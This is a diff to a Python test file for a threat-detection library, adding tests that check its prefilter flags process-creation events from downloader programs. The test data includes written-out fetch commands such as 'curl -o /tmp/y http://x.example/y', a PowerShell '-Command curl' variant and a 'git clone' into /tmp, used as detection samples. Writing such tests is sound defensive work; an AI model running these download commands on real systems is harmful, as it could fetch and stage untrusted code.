@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import json
 import os
 import random
 import sys
+from contextlib import suppress
 from typing import Any
 
 import pytest
@@ -13,6 +15,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from t1612core import AUTO, HARDENED, MDE, SENTINEL, Detector, EventError, Profile, Schema
+from t1612core.knowledge.programs import DOWNLOADERS
 from t1612core.stream import prefilter
 from t1612core.stream.account import Value
 from t1612core.stream.json_stream import json_values
@@ -87,6 +90,78 @@ def test_no_line_of_any_product_that_scores_is_passed_over(
             assert is_suspect(made, line), (number, line)
 
     assert all(scored.values()), scored
+
+
+# Lines that may fetch or start something, and a name in every form that a step is known by.
+FETCH = "http://x.example/y"
+FETCHES = (
+    *(f" -c 'curl -o /tmp/y {FETCH}'", f" -o /tmp/y {FETCH}", f" clone {FETCH} /tmp/y"),
+    *(f" curl -o /tmp/y {FETCH}", f" -Command curl -o /tmp/y {FETCH}"),
+)
+STARTS = ("", " run -d x", " create x", "run", *FETCHES, *FETCHES)
+FETCHERS = sorted(DOWNLOADERS.programs)
+
+
+def steps_row(rng: random.Random) -> dict[str, Any]:
+    name = rng.choice(("--", "", "", "/", "C:\\")) + rng.choice(FETCHERS)
+    name += rng.choice(("", "", ".exe", "3.11", "-v2", "1" * 5000, " (deleted)"))
+    line = f"{rng.choice(('/tmp/.x/y', name))}{rng.choice(STARTS)}"
+    return {"ActionType": "ProcessCreated", "FileName": name, "ProcessCommandLine": line}
+
+
+@WAYS
+@pytest.mark.parametrize("schema", [MDE, AUTO], ids=lambda x: x.name)
+def test_no_line_that_is_a_step_is_passed_over(schema: Schema, is_plain: bool) -> None:
+    detector = Detector(SENTINEL, schema)
+    made = prefilter_of(SENTINEL, schema, is_plain=is_plain, of_steps=True)
+    rng = random.Random(22)
+    steps = 0
+    for number in range(LINES // 8):  # parsers read each of them whole
+        row = rng.choice((steps_row(rng), rng.choice(ROWS)))
+        if "ProcessCommandLine" in row and rng.random() < 0.2:
+            row = {**row, "FileName": "x", "ProcessCommandLine": f"/tmp/.x/y{rng.choice(STARTS)}"}
+        line = spelled(rng, row).encode("utf-8", "replace")
+        if is_step(detector, line):
+            steps += 1
+            assert is_suspect(made, line), (number, line)
+
+    assert steps > LINES / 160
+
+
+@WAYS
+def test_each_program_that_may_fetch_is_looked_for(is_plain: bool) -> None:
+    detector, made = Detector(), prefilter_of(HARDENED, MDE, is_plain=is_plain, of_steps=True)
+    steps = 0
+    for name in FETCHERS:
+        for told in FETCHES:
+            row = {"FileName": name, "ProcessCommandLine": f"{name}{told}"}
+            line = json.dumps(row).encode()
+            if is_step(detector, line):
+                steps += 1
+                assert is_suspect(made, line), line
+
+    assert steps > len(FETCHERS) / 4
+
+
+def is_step(detector: Detector, line: bytes) -> bool:
+    for document in json_values([line]):
+        assert isinstance(document, Value)
+        for event in detector.unwrap([document.value]):
+            with suppress(EventError):
+                if detector.observe(event):
+                    return True
+    return False
+
+
+@WAYS
+def test_what_may_fetch_is_looked_for_where_it_runs_alone(is_plain: bool) -> None:
+    """Shells start nearly everything: who started it is no step."""
+    made = prefilter_of(HARDENED, MDE, is_plain=is_plain, of_steps=True)
+
+    assert is_suspect(made, b'{"FileName":"bash"}')
+    assert is_suspect(made, b'{"FileName":"x","ProcessCommandLine":"/tmp/x run y"}')
+    assert not is_suspect(made, b'{"FileName":"ls","InitiatingProcessFileName":"bash"}')
+    assert not is_suspect(prefilter_of(HARDENED, MDE, is_plain=is_plain), b'{"FileName":"bash"}')
 
 
 @PROFILES
